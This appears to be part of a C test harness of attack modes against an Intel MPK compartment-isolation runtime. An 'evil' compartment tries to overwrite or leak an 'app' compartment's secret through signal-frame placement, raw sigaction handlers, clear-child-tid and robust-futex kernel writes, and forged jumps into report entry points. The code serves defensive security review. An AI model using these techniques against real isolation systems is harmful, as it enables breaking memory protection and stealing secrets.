	syscall(SYS_futex, tidp, FUTEX_WAKE, INT_MAX, NULL, NULL, 0);
	return NULL;
}

/*
 * Called on a thread of app's (one app made): the kernel writes 0 (4 bytes)
 * at the thread's clear_child_tid when it exits, under the PKRU it has then
 * (app's, its start routine being app's): pointed at app's secret, that
 * zeroes it. glibc's pthread_join, which waits for that write to its own
 * word, is released by a thread of evil's 300 ms later.
 */
static long tid_address(uintptr_t target)
{
	int me = (int)syscall(SYS_gettid);
	char *pd = (char *)pthread_self();
	volatile int *tidp = NULL;
	for (int off = 0; off < 4096; off += 4)
		if (*(int *)(pd + off) == me) {
			tidp = (volatile int *)(pd + off);
			break;
		}
	fprintf(stderr, "set-tid-address: thread %d, pd->tid at %p; set_tid_address(%#lx)\n", me,
		(void *)tidp, (unsigned long)target);
	syscall(SYS_set_tid_address, target);
	pthread_t t;
	if (tidp && !pthread_create(&t, NULL, release_join, (void *)tidp))
		pthread_detach(t);
	errno = 0;
	return 0;
}

/*
 * Sends SIGUSR2 to thread tid with a siginfo whose bytes 16 to 47 (what
 * the kernel keeps of a queued one) are 4 words of value: where those land
 * in the frame is where an attacker's words do. The system call's result.
 */
static long queue_marked(pid_t tid, unsigned long value)
{
	siginfo_t si;

	memset(&si, 0, sizeof(si));
	si.si_signo = SIGUSR2;
	si.si_code = -1; /* SI_QUEUE */
	for (int w = 2; w < 6; w++)
		((unsigned long *)&si)[w] = value;
	return syscall(SYS_rt_tgsigqueueinfo, getpid(), tid, SIGUSR2, &si);
}

/* The first word of value in the upper 64 KiB of buf (128 KiB), or 0: a marked frame's. */
static uintptr_t marked_word(const char *buf, unsigned long value)
{
	for (uintptr_t o = 0x10000; o < 0x20000; o += 8)
		if (*(const unsigned long *)(buf + o) == value)
			return (uintptr_t)(buf + o);
	return 0;
}

/*
 * The kernel writes a signal frame where the thread's signal stack says,
 * under the PKRU of the code it interrupts (6.1). A thread of evil's names
 * a signal stack that ends above app's secret (in app's heap), crosses
 * into app (app_busy), and gets a signal with a siginfo of evil's
 * (rt_tgsigqueueinfo) handled by a handler of evil's installed raw
 * (rt_sigaction): the frame, app's registers and evil's siginfo words, is
 * written over app's heap. A first thread, staying in evil on a stack of
 * evil's, finds where in the frame the siginfo words land. Returns 0; app
 * checks its secret. (An attack review's.)
 */
/* A handler that touches no memory: it runs with the kernel's init PKRU (key 0 only). */
__asm__(".text\n.globl frame_spin\nframe_spin: pause\n jmp frame_spin\n");
void frame_spin(void);

struct frame_arg {
	uintptr_t top, cal_top, size;
	volatile pid_t tid;
	volatile int ready;
	volatile int err;
};

static void *frame_victim(void *arg)
{
	struct frame_arg *a = arg;
	uintptr_t top = a->top ? a->top : a->cal_top;
	size_t size = a->top ? a->size : 0x10000;
	stack_t ss = {.ss_sp = (void *)(top - size), .ss_size = size, .ss_flags = 0};

	a->tid = (pid_t)syscall(SYS_gettid);
	/* This thread's signal stack: ends just above app's secret (never touched here). */
	if (syscall(SYS_sigaltstack, &ss, NULL)) {
		a->err = errno;
		perror("sigaltstack-frame: sigaltstack");
	}
	a->ready = 1;
	if (a->top == 0) /* calibration: stays in 'evil' */
		for (;;)
			usleep(1000);
	app_busy(); /* ~300 ms in 'app', with app's PKRU */
	return NULL;
}

struct frame_ksa {
	void *handler;
	unsigned long flags;
	void *restorer;
	unsigned long mask;
};

static long frame_sigframe(uintptr_t target)
{
	static struct frame_arg a, c;
	pthread_t t;
	const unsigned long value = 0xdeadbeefcafe;
	struct frame_ksa ksa = {.handler = (void *)frame_spin,
				.flags = 0x08000000 /* SA_ONSTACK */ |
					 0x04000000 /* SA_RESTORER */ | 4 /* SA_SIGINFO */,
				.restorer = (void *)frame_spin,
				.mask = ~0UL};

	if (syscall(SYS_rt_sigaction, SIGUSR2, &ksa, NULL, 8))
		return 0;
	/* Calibration: where in a frame on a key-0 buffer of evil's does si_value land? */
	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	c.top = 0;
	c.cal_top = (uintptr_t)buf + 0x20000 - 0x10;
	if (pthread_create(&t, NULL, frame_victim, &c))
		return 0;
	pthread_detach(t);
	while (!c.ready)
		usleep(1000);
	usleep(10000);
	queue_marked(c.tid, value);
	usleep(50000);
	uintptr_t lo_cal = marked_word(buf, value);
	printf("sigaltstack-frame: calibration: siginfo's words at %#lx, %#lx below the signal "
	       "stack's top\n",
	       (unsigned long)lo_cal, (unsigned long)(c.cal_top - lo_cal));
	if (!lo_cal) {
		errno = c.err ? c.err : ENOENT;
		return 0;
	}
	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
	a.size = 0x10000;
	if (k == 4) { /* uc_stack.ss_size, 0x120 below siginfo's words: the stack's size is ours */
		lo = target + 0x120;
		a.size = 0x41414; /* at least MINSIGSTKSZ, and not reaching down to the thread's own
				     stack */
	} else if (k > 4) {
		lo = target - 8 * k; /* not a word of ours: the frame still covers it */
	}
	/* The victim's signal stack ends where its frame's siginfo words cover app's secret. */
	a.top = c.cal_top + (lo - lo_cal);
	printf("sigaltstack-frame: target %#lx, word %lu\n", (unsigned long)target,
	       (unsigned long)k);
	if (pthread_create(&t, NULL, frame_victim, &a))
		return 0;
	pthread_detach(t);
	while (!a.ready)
		usleep(1000);
	usleep(100000); /* the victim is now in app_busy */
	long r = queue_marked(a.tid, value);
	printf("sigaltstack-frame: rt_tgsigqueueinfo to %d: %ld\n", (int)a.tid, r);
	fflush(stdout);
	usleep(50000);
	char pth[96], ln[256];
	snprintf(pth, sizeof(pth), "/proc/self/task/%d/status", (int)a.tid);
	FILE *f = fopen(pth, "r");
	if (!f)
		perror(pth);
	while (f && fgets(ln, sizeof(ln), f))
		if (!strncmp(ln, "State", 5) || !strncmp(ln, "Sig", 3) || !strncmp(ln, "ShdPnd", 6))
			printf("sigaltstack-frame: victim %s", ln);
	if (f)
		fclose(f);
	fflush(stdout);
	usleep(300000);
	errno = a.err;
	return 0;
}

/*
 * A handler installed with the system call itself, past the runtime's
 * sigaction: the kernel runs it with its default PKRU (key 0 only) on the
 * signal stack (key 0), where the frame holds the interrupted registers
 * whole. It copies the general and vector registers to key-0 memory
 * (FLEXOS_SHARED) and waits there for good: its return would be killed.
 */
static volatile long raw_regs[23 + 64] FLEXOS_SHARED;
static volatile int raw_done FLEXOS_SHARED;

static void raw_handler(int sig, siginfo_t *si, void *ctx)
{
	const ucontext_t *uc = ctx;

	(void)sig, (void)si;
	for (int i = 0; i < 23; i++)
		raw_regs[i] = uc->uc_mcontext.gregs[i];
	const volatile long *fp = (const volatile long *)uc->uc_mcontext.fpregs;
	for (int i = 0; fp && i < 64; i++)
		raw_regs[23 + i] = fp[i];
	raw_done = 1;
	for (;;)
		__asm__ volatile("pause");
}

struct raw_victim {
	volatile pid_t tid;
};

static void *raw_victim(void *arg)
{
	struct raw_victim *v = arg;

	v->tid = (pid_t)syscall(SYS_gettid);
	app_busy(); /* 300 ms in 'app' */
	return NULL;
}

static long raw_sigaction(long secret)
{
	struct kernel_sa {
		void *handler;
		unsigned long flags;
		void *restorer;
		unsigned long mask;
	} ksa = {.handler = (void *)raw_handler,
		 .flags = 0x08000000 /* SA_ONSTACK */ | 0x04000000 /* SA_RESTORER */ | SA_SIGINFO,
		 .restorer = (void *)raw_handler,
		 .mask = ~0UL};
	static struct raw_victim v;
	pthread_t t;

	if (syscall(SYS_rt_sigaction, SIGUSR2, &ksa, NULL, 8))
		return 0;
	if (pthread_create(&t, NULL, raw_victim, &v))
		return 0;
	pthread_detach(t);
	while (!v.tid)
		usleep(1000);
	usleep(100000); /* in app_busy now */
	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
	for (int i = 0; i < 200 && !raw_done; i++)
		usleep(1000);
	/* Made only now: nothing of evil's held it before. */
	long needle = app_stack_value(secret);
	for (int i = 0; i < 23 + 64; i++)
		if (raw_regs[i] == needle) {
			printf("raw-sigaction: app's value in the frame's %s %d\n",
			       i < 23 ? "general register" : "FPU/vector word",
			       i < 23 ? i : i - 23);
			return 1;
		}
	printf("raw-sigaction: the handler %s, app's value not in the frame\n",
	       raw_done ? "ran" : "did not run");
	errno = ENOENT;
	return 0;
}

uintptr_t flexos__mpk_sigaction_table(void) __attribute__((weak));
#ifndef SS_AUTODISARM
#define SS_AUTODISARM (1u << 31)
#endif

struct stk_victim {
	volatile pid_t tid;
	volatile int ready, err;
	stack_t old;
	int use_tail;      /* sigaltstack with the table's last 8 bytes + what follows */
	unsigned long top; /* the stack's top (ss_sp 0, ss_size top) */
	int stay;          /* stay in evil */
};

/* The table's last 8 bytes (zero: ss_sp 0) and the 16 after its page (key 0, writable). */
static const stack_t *table_tail(unsigned long top)
{
	uintptr_t tail = flexos__mpk_ro.ro.alt_table + MPK_ALT_TABLE_SIZE - 8;
	volatile unsigned int *flags = (volatile unsigned int *)(tail + 8);
	volatile unsigned long *size = (volatile unsigned long *)(tail + 16);
	*flags = SS_AUTODISARM; /* 1u << 31: the frame at the top, wherever sp is */
	*size = top;
	return (const stack_t *)tail;
}

static void *stk_victim_fn(void *arg)
{
	struct stk_victim *v = arg;

	v->tid = (pid_t)syscall(SYS_gettid);
	if (v->use_tail && syscall(SYS_sigaltstack, table_tail(v->top), NULL))
		v->err = errno;
	syscall(SYS_sigaltstack, NULL, &v->old);
	v->ready = 1;
	while (v->stay)
		usleep(1000);
	app_busy(); /* ~300 ms in 'app', with app's PKRU */
	return NULL;
}

/* The table's action 0: the delivery stub, SA_SIGINFO | SA_ONSTACK | SA_RESTORER. */
static long stub_action(int sig)
{
	if (!flexos__mpk_sigaction_table) {
		errno = ENOSYS;
		return -1;
	}
	return syscall(SYS_rt_sigaction, sig, (void *)flexos__mpk_sigaction_table(), NULL, 8);
}

static void plain_handler(int sig)
{
	(void)sig;
}

/*
 * stub-noscrub: the delivery stub installed raw (from the table) for SIGUSR2,
 * which has no handler recorded: the stub neither scrubs the frame nor
 * runs anything; the frame, app's registers whole, stays on the thread's
 * key-0 signal stack. Mode 49 (control): an ordinary sigaction of evil's
 * (the stub scrubs).
 */
static long stub_noscrub(long secret, int legit)
{
	static struct stk_victim v;
	pthread_t t;

	if (legit) {
		struct sigaction sa;
		memset(&sa, 0, sizeof(sa));
		sa.sa_handler = plain_handler;
		if (sigaction(SIGUSR2, &sa, NULL))
			return 0;
	} else if (stub_action(SIGUSR2)) {
		printf("stub-noscrub: rt_sigaction: %s\n", strerror(errno));
		return 0;
	}
	if (pthread_create(&t, NULL, stk_victim_fn, &v))
		return 0;
	pthread_detach(t);
	while (!v.ready)
		usleep(1000);
	usleep(100000); /* in app_busy now */
	long r = syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
	usleep(100000);
	printf("stub-noscrub: tgkill %ld; victim's signal stack %p + %#lx\n", r, v.old.ss_sp,
	       (unsigned long)v.old.ss_size);
	long needle = app_stack_value(secret);
	const long *p = v.old.ss_sp;
	for (size_t i = 0; p && i < v.old.ss_size / 8; i++)
		if (p[i] == needle) {
			printf(
			    "stub-noscrub: app's value %#lx at %#lx below the top of the victim's "
			    "signal stack (key 0)\n",
			    (unsigned long)needle, (unsigned long)(v.old.ss_size - 8 * i));
			return 1;
		}
	printf("stub-noscrub: app's value not found\n");
	errno = ENOENT;
	return 0;
}

/*
 * Where the kernel puts a queued siginfo's words on a signal stack whose
 * top is top, in buf: a marked siginfo sent to thread tid (waiting, its
 * stack in buf), then looked for. 0 (errno ENOENT) when not found.
 */
static uintptr_t calibrate(const char *mode, pid_t tid, const void *buf, uintptr_t top,
			   unsigned long value)
{
	queue_marked(tid, value);
	usleep(50000);
	uintptr_t lo = marked_word(buf, value);
	printf("%s: calibration: siginfo's words %#lx below the top\n", mode,
	       lo ? (unsigned long)(top - lo) : 0UL);
	if (!lo)
		errno = ENOENT;
	return lo;
}

/* The marked siginfo to thread tid once it runs app_busy (in 'app'), then time for the frame. */
static void signal_in_app(const char *mode, pid_t tid, unsigned long value)
{
	usleep(100000); /* in app_busy */
	long r = queue_marked(tid, value);
	printf("%s: rt_tgsigqueueinfo %ld\n", mode, r);
	fflush(stdout);
	usleep(400000);
}

/*
 * table-tail: sigaltstack with the table's last 8 bytes (ss_sp 0) and the 16
 * bytes after its page (ss_flags SS_AUTODISARM, ss_size: any top), which
 * the filter's page check passed (an attack review's): the kernel writes the frame of a signal
 * that interrupts app wherever evil chooses, under app's PKRU: siginfo
 * words of evil's over app's heap secret.
 */
static long table_tail_frame(uintptr_t target)
{
	static struct stk_victim c, a;
	pthread_t t;
	const unsigned long value = 0xdeadbeefcafe;

	if (stub_action(SIGUSR2)) {
		printf("table-tail: rt_sigaction: %s\n", strerror(errno));
		return 0;
	}
	char *buf = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	c.use_tail = 1;
	c.top = (uintptr_t)buf + 0x20000 - 0x10;
	c.stay = 1;
	if (pthread_create(&t, NULL, stk_victim_fn, &c))
		return 0;
	pthread_detach(t);
	while (!c.ready)
		usleep(1000);
	printf(
	    "table-tail: sigaltstack(table end) %s; the thread's stack now %p + %#lx flags %#x\n",
	    c.err ? strerror(c.err) : "allowed", c.old.ss_sp, (unsigned long)c.old.ss_size,
	    (unsigned)c.old.ss_flags);
	if (c.err) {
		errno = c.err;
		return 0;
	}
	uintptr_t lo_cal = calibrate("table-tail", c.tid, buf, c.top, value);
	if (!lo_cal)
		return 0;
	/* Keep the 64-byte alignment: move the top by a multiple of 64. */
	uintptr_t k = ((target - lo_cal) & 63) / 8, lo = target - 8 * k;
	a.use_tail = 1;
	a.top = c.top + (lo - lo_cal);
	printf("table-tail: target %#lx, word %lu, top %#lx\n", (unsigned long)target,
	       (unsigned long)k, a.top);
	if (pthread_create(&t, NULL, stk_victim_fn, &a))
		return 0;
	pthread_detach(t);
	while (!a.ready)
		usleep(1000);
	signal_in_app("table-tail", a.tid, value);
	errno = a.err;
	return 0;
}

/*
 * misaligned-action: an action read at a misaligned address of the
 * actions' page (the filter checked the page only): t[48] + 16 gives
 * handler = the restorer (flexos__mpk_sigreturn), flags = t[48]'s mask (all
 * bits), restorer = t[49].handler (0). SIGUSR1 to a thread of evil's in app.
 */
static long misaligned_action(void)
{
	static struct stk_victim v;
	pthread_t t;
	uintptr_t tab = flexos__mpk_sigaction_table ? flexos__mpk_sigaction_table() : 0;
	struct {
		void *h;
		unsigned long f;
		void *r;
		unsigned long m;
	} got;

	long r = syscall(SYS_rt_sigaction, SIGUSR1, (void *)(tab + 48 * 32 + 16), NULL, 8);
	printf("misaligned-action: rt_sigaction(t[48]+16): %ld %s\n", r, r ? strerror(errno) : "");
	syscall(SYS_rt_sigaction, SIGUSR1, NULL, &got, 8);
	printf("misaligned-action: kernel's action: handler %p flags %#lx restorer %p mask %#lx\n",
	       got.h, got.f, got.r, got.m);
	fflush(stdout);
	if (r)
		return 0;
	if (pthread_create(&t, NULL, stk_victim_fn, &v))
		return 0;
	pthread_detach(t);
	while (!v.ready)
		usleep(1000);
	usleep(100000);
	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR1);
	usleep(500000);
	printf("misaligned-action: still alive\n");
	return 0;
}

/*
 * The delivery stub's snapshots of interrupted frames, in the copy areas:
 * is app's register in what evil can read of them, after a signal that
 * interrupted app ran a handler of evil's (whose frame the stub scrubs)?
 * Each page is read through a pipe, which the kernel copies from under
 * evil's PKRU: a page evil cannot read fails with EFAULT, not a fault.
 */
static void copy_handler(int sig)
{
	(void)sig;
}

static long copy_area_read(long secret)
{
	static struct raw_victim v;
	struct sigaction sa;
	pthread_t t;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = copy_handler;
	if (sigaction(SIGUSR2, &sa, NULL) || pthread_create(&t, NULL, raw_victim, &v))
		return 0;
	pthread_detach(t);
	while (!v.tid)
		usleep(1000);
	usleep(100000); /* in app_busy now */
	syscall(SYS_tgkill, getpid(), v.tid, SIGUSR2);
	usleep(100000);
	long needle = app_stack_value(secret);
	const char *page = (const char *)flexos__mpk_pkru;
	uintptr_t base, stride;
	memcpy(&base, page + MPK_PKRU_SIG_COPY, sizeof(base));
	memcpy(&stride, page + MPK_PKRU_SIG_COPY_STRIDE, sizeof(stride));
	static long words[4096 / sizeof(long)];
	size_t readable = 0, pages = 0;
	int fds[2];
	if (pipe(fds))
		return 0;
	for (uintptr_t p = base; p < base + 16 * MPK_SIG_AREAS * stride; p += 4096, pages++) {
		if (write(fds[1], (const void *)p, sizeof(words)) != (ssize_t)sizeof(words))
			continue;
		if (read(fds[0], words, sizeof(words)) != (ssize_t)sizeof(words))
			return 0;
		readable++;
		for (size_t w = 0; w < sizeof(words) / sizeof(words[0]); w++)
			if (words[w] == needle) {
				printf("copy-area-read: app's value in the copy areas, at %#lx\n",
				       (unsigned long)(p + w * sizeof(long)));
				return 1;
			}
	}
	printf("copy-area-read: app's value not in the copy areas (%zu of %zu pages readable)\n",
	       readable, pages);
	errno = ENOENT;
	return 0;
}

/*
 * clone with CLONE_CHILD_CLEARTID naming app's secret: the kernel writes 0
 * there when the thread ends, under the PKRU it has then. evil's thread
 * (its TLS the descriptor of a thread of evil's that ended, which glibc
 * keeps, as the clone site wants a TLS no live thread has) calls into app,
 * whose app_end_thread ends it there. Made through glibc's clone(), which
 * goes to the runtime's clone site (a clone system call of evil's own is
 * reported by the filter): the site must refuse a child_tid evil cannot
 * write itself.
 */
static char cleartid_stack[65536] __attribute__((aligned(16)));

static void *cleartid_first(void *arg)
{
	return arg;
}

__attribute__((used, noinline)) static void cleartid_child(void)
{
	app_end_thread();
	__builtin_trap();
}

static int cleartid_child_fn(void *arg)
{
	(void)arg;
	cleartid_child();
	return 0;
}

static long clone_cleartid(uintptr_t target)
{
	pthread_t t0;
	if (pthread_create(&t0, NULL, cleartid_first, NULL) || pthread_join(t0, NULL))
		return 0;
	fprintf(stderr, "clone-cleartid: clone(CLONE_CHILD_CLEARTID, child_tid %#lx)\n",
		(unsigned long)target);
	int flags = CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD |
		    CLONE_SYSVSEM | CLONE_SETTLS | CLONE_CHILD_CLEARTID;
	if (clone(cleartid_child_fn, cleartid_stack + sizeof(cleartid_stack), flags, NULL, NULL,
		  (void *)t0, (void *)target) < 0)
		return 0;
	usleep(500000); /* the thread calls app, which ends it */
	errno = 0;
	return 0;
}

/*
 * On a thread app made (its start routine app's, so it ends with app's
 * PKRU), target app's word holding the thread's id: the thread's
 * robust-futex list, whose head glibc keeps in the thread's descriptor
 * (key 0) and registers with the kernel, is pointed at one entry, in a
 * page of key 0 (which app reads), whose futex word is app's. The kernel
 * walks the list when the thread ends, under the PKRU it has then, and
 * marks a word holding the thread's id owner-died (FUTEX_OWNER_DIED).
 * Without a registered list, evil registers a head of its own. Also says
 * what the main thread has registered, and what a robust mutex gets.
 */
static long robust_list(uintptr_t target)
{
	struct robust_list_head *head = NULL, *main_head = NULL;
	size_t len = 0;
	pthread_mutexattr_t a;

	pthread_mutexattr_init(&a);
	fprintf(stderr, "robust-list: a robust mutex: %s\n",
		strerror(pthread_mutexattr_setrobust(&a, PTHREAD_MUTEX_ROBUST)));
	if (syscall(SYS_get_robust_list, getpid(), &main_head, &len) ||
	    syscall(SYS_get_robust_list, 0, &head, &len))
		return 0;
	fprintf(stderr, "robust-list: the main thread's registered list head %p\n",
		(void *)main_head);
	struct robust_list *entry =
	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (entry == MAP_FAILED)
		return 0;
	fprintf(stderr, "robust-list: the thread's registered list head %p\n", (void *)head);
	if (!head) {
		head = (struct robust_list_head *)(entry + 8);
		if (syscall(SYS_set_robust_list, head, sizeof(*head))) {
			fprintf(stderr, "robust-list: set_robust_list: %s\n", strerror(errno));
			return 0;
		}
	}
	entry->next = &head->list;
	head->futex_offset = (long)(target - (uintptr_t)entry);
	head->list_op_pending = NULL;
	head->list.next = entry;
	errno = 0;
	return 0;
}

/*
 * A child of fork() runs /bin/true: refused (EPERM), since the filters
 * outlive execve and would end the program at its first system calls;
 * 1 when it ran (the filter off).
 */
static long run_program(void)
{
	pid_t pid = fork();
	int status;

	if (pid < 0)
		return 0;
	if (pid == 0) {
		execl("/bin/true", "true", (char *)NULL);
		_exit(errno == EPERM ? 42 : 43);
	}
	if (waitpid(pid, &status, 0) != pid)
		return 0;
	if (WIFEXITED(status) && WEXITSTATUS(status) == 42) {
		fprintf(stderr, "exec: the child's execve: Operation not permitted\n");
		errno = EPERM;
		return 0;
	}
	fprintf(stderr, "exec: the child %s %d\n",
		WIFEXITED(status) ? "exited with" : "died of signal",
		WIFEXITED(status) ? WEXITSTATUS(status) : WTERMSIG(status));
	errno = 0;
	return WIFEXITED(status) && WEXITSTATUS(status) == 0;
}

/*
 * Not an attack: what pthread_cancel does in an intel-mpk image, to a
 * thread that reaches a cancellation point (pthread_testcancel), and to
 * one blocked in one (sleep), which glibc interrupts with SIGCANCEL: its
 * handler, installed at the first pthread_cancel with the system call,
 * bypasses the runtime's sigaction (the filter refuses it; with the
 * filter off it runs with the kernel's PKRU on the thread's stack in its
 * compartment, and faults).
 */
static void *cancel_target(void *blocked)
{
	for (;;)
		if (blocked)
			sleep(10);
		else
			pthread_testcancel();
	return NULL;
}

static long cancel_thread(int blocked)
{
	const char *mode = blocked ? "cancel-blocked" : "cancel";
	pthread_t t;
	void *r = NULL;

	if (pthread_create(&t, NULL, cancel_target, blocked ? (void *)1 : NULL))
		return 0;
	usleep(100000);
	int err = pthread_cancel(t);
	fprintf(stderr, "%s: pthread_cancel: %s\n", mode, strerror(err));
	if (!err)
		pthread_join(t, &r);
	fprintf(stderr, "%s: the thread %s\n", mode,
		r == PTHREAD_CANCELED ? "was cancelled" : "was not cancelled");
	errno = r == PTHREAD_CANCELED ? ENOENT : EIO;
	return 0;
}

static void *setxid_sleeper(void *arg)
{
	(void)arg;
	sleep(1);
	return NULL;
}

/*
 * Mode 69, setxid: not an attack. glibc's set*id in a process with more
 * than one thread has every other thread make the call too (SIGSETXID),
 * which intel-mpk images cannot let it do (backends/mpk/setxid.c): with
 * one thread the call is made; with two the image ends, saying why.
 */
/*
 * sigsys-mask: the SIGSYS report runs with every signal blocked, so that
 * no handler (evil's own here) runs in the middle of it, on top of its
 * frame. A timer sends SIGUSR1 to this thread every 20 µs; once evil's
 * handler has run a few times, evil makes a denied call: the report must
 * end the image without the handler running again.
 */
static volatile int mask_seen, mask_reporting;

static void mask_usr1(int sig)
{
	static const char msg[] = "sigsys-mask: SIGUSR1's handler ran during the SIGSYS report\n";

	(void)sig;
	mask_seen++;
	if (mask_reporting && write(2, msg, sizeof(msg) - 1) < 0)
		mask_seen = -1;
}

static long sigsys_mask(void)
{
	struct sigaction sa;
	struct sigevent ev;
	struct itimerspec every = {.it_value = {0, 20000}, .it_interval = {0, 20000}};
	timer_t tm;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = mask_usr1;
	memset(&ev, 0, sizeof(ev));
	ev.sigev_notify = SIGEV_THREAD_ID;
	ev.sigev_signo = SIGUSR1;
	ev._sigev_un._tid = (pid_t)syscall(SYS_gettid);
	if (sigaction(SIGUSR1, &sa, NULL) || timer_create(CLOCK_MONOTONIC, &ev, &tm) ||
	    timer_settime(tm, 0, &every, NULL)) {
		fprintf(stderr, "sigsys-mask: no timer (%s)\n", strerror(errno));
		return 0;
	}
	for (int i = 0; i < 5000 && mask_seen < 5; i++)
		usleep(1000);
	fprintf(stderr, "sigsys-mask: SIGUSR1's handler ran %d times; now a denied call\n",
		mask_seen);
	mask_reporting = 1;
	syscall(SYS_pkey_alloc, 0, 0);
	fprintf(stderr, "sigsys-mask: the denied call returned\n");
	return 1;
}

/*
 * sigsys-smash: evil's second thread fills the top of evil's first
 * thread's signal stack (key 0: every glibc compartment writes it) with
 * the address of evil's own code, again and again, while the first makes
 * a denied call. The SIGSYS report ran there, in images without newlib
 * compartments, as a C handler whose return addresses the filling took
 * over; it now runs from gate.S's entry on the report stack (gate key),
 * so the image ends with a report (123, or 159 where the filling reached
 * the siginfo first) and evil's code never runs in it.
 */
static volatile int smash_stop;
static volatile uintptr_t smash_lo;

static void smash_landed(void)
{
	static const char msg[] = "sigsys-smash: EVIL'S CODE RAN in the SIGSYS report\n";
	if (write(2, msg, sizeof(msg) - 1) < 0)
		_exit(3);
	_exit(3);
}

static void *smash_fill(void *arg)
{
	(void)arg;
	while (!smash_stop)
		for (volatile uintptr_t *w = (volatile uintptr_t *)smash_lo;
		     w < (volatile uintptr_t *)(smash_lo + 16384); w++)
			*w = (uintptr_t)smash_landed;
	return NULL;
}

static long sigsys_smash(void)
{
	pthread_t t;
	uintptr_t gp = (uintptr_t)flexos__mpk_thread.gp;
	size_t page = (gp - flexos__mpk_ro.ro.gp_lo) / 4096;

	/* The top 16 KiB of this thread's signal stack, where the kernel writes the frame. */
	smash_lo = flexos__mpk_ro.ro.alt_lo + (page + 1) * MPK_ALTSTACK_SIZE - 16384;
	if (!gp || pthread_create(&t, NULL, smash_fill, NULL))
		return 0;
	usleep(20000);
	fprintf(stderr, "sigsys-smash: evil's thread fills %#lx-%#lx with %p; now a denied call\n",
		(unsigned long)smash_lo, (unsigned long)smash_lo + 16384, (void *)smash_landed);
	syscall(SYS_pkey_alloc, 0, 0);
	smash_stop = 1;
	pthread_join(t, NULL);
	fprintf(stderr, "sigsys-smash: the denied call returned\n");
	return 1;
}

/*
 * report-forge-sigsys, report-forge-segv (an attack review's): a jump
 * past the SIGSYS (or SIGSEGV) entry's PKRU check, to where it names its
 * report's kind, with a siginfo of evil's making (in key-0 memory, which
 * the report's frame PKRU reads) and a "ucontext" placed so that its
 * registers (RDI on) lie over app's secret. The report read them with
 * its PKRU, which reads every compartment, and printed 7 words of app's
 * memory as the denied call's arguments (SIGSYS), or copied them as the
 * fault's frame (SIGSEGV). It now reads a frame with the frame PKRU (no
 * compartment's key): the read faults and the image ends.
 */
extern void flexos__mpk_sigsys_entry(int, siginfo_t *, void *);
extern void flexos__mpk_segv_entry(int, siginfo_t *, void *);
static volatile uintptr_t forge_at;

static long report_forge(int sigsys, uintptr_t target)
{
	const unsigned char *e = sigsys ? (const unsigned char *)flexos__mpk_sigsys_entry
					: (const unsigned char *)flexos__mpk_segv_entry;
	/* movl $MPK_REPORT_SYSCALL (10) or $MPK_REPORT_FAULT (0), %r12d */
	const unsigned char kind[] = {0x41, 0xbc, sigsys ? 0x0a : 0x00, 0x00, 0x00, 0x00};
	siginfo_t *si =
	    mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	size_t off;

	for (off = 0; off < 64 && memcmp(e + off, kind, sizeof(kind)); off++)
		;
	if (off == 64 || si == MAP_FAILED)
		return 0;
	forge_at = (uintptr_t)e + off;
	si->si_signo = sigsys ? SIGSYS : SIGSEGV;
	si->si_code = sigsys ? 1 /* SYS_SECCOMP */ : SEGV_PKUERR;
	((int *)si)[6] = SYS_pkey_alloc; /* si_syscall */
	uintptr_t uc = target - (offsetof(ucontext_t, uc_mcontext.gregs) + 8 * REG_RDI);
	fprintf(stderr,
		"report-forge: a jump to %s+%zu, its ucontext at %#lx (app's secret at %#lx)\n",
		sigsys ? "flexos__mpk_sigsys_entry" : "flexos__mpk_segv_entry", off,
		(unsigned long)uc, (unsigned long)target);
	/*
	 * r13 the signal, r14 si, r15 uc, as the entry's first lines leave
	 * them; ZF set, as the SIGSEGV entry's check leaves it for a delivery.
	 */
	__asm__ volatile("mov %0, %%r14\n\tmov %1, %%r15\n\tmov %2, %%r13\n\t"
			 "cmp %%r13, %%r13\n\tjmp *forge_at(%%rip)"
			 :
			 : "r"(si), "r"(uc), "r"((uintptr_t)(sigsys ? SIGSYS : SIGSEGV))
			 : "r13", "r14", "r15", "memory");
	return 0;
}

/*
 * report-lock-signal (an attack review's): a forged report (evil calls
 * the SIGSEGV entry itself) takes the report's lock with this thread's
 * tid; evil's second thread, seeing that tid in the lock word, sends this
 * thread SIGUSR1, whose handler (evil's) jumps back into the report's
 * path where it takes the report's PKRU (REPORT_KEYS), with the kind of a
 * denied call and a "ucontext" over app's secret: the lock check passed
 * (the same thread) and the report printed the secret (7 of 10 runs, two
 * CPUs). The report now blocks every signal before it takes the lock: the
 * handler never runs, the forged report ends the image.
 */
static volatile uintptr_t rl_insn, rl_uc, rl_si;
static volatile int rl_tid, rl_go;
static volatile uint32_t *rl_lock;

static void rl_handler(int sig)
{
	static const char msg[] = "report-lock-signal: evil's handler runs holding the lock\n";

	(void)sig;
	if ((int)*rl_lock != (int)syscall(SYS_gettid))
		return;
	if (write(2, msg, sizeof(msg) - 1) < 0)
		_exit(3);
	__asm__ volatile("mov %0, %%r13\n\tmov %1, %%r14\n\tmov $10, %%r12d\n\txor %%ebx, %%ebx\n\t"
			 "jmp *rl_insn(%%rip)"
			 :
			 : "r"(rl_si), "r"(rl_uc)
			 : "r12", "r13", "r14", "rbx", "memory");
}

static void *rl_sender(void *arg)
{
	(void)arg;
	while (!rl_go)
		;
	while ((int)*rl_lock != rl_tid)
		;
	for (int i = 0; i < 4; i++)
		syscall(SYS_tgkill, getpid(), rl_tid, SIGUSR1);
	return NULL;
}

static long report_lock_signal(uintptr_t target)
{
	const unsigned char *e = (const unsigned char *)flexos__mpk_segv_entry;
	/* cmpl $MPK_REPORT_SYSCALL, %r12d; je: the other kinds' REPORT_KEYS follows (6 bytes) */
	const unsigned char pat[] = {0x41, 0x83, 0xfc, 0x0a, 0x74};
	siginfo_t *si =
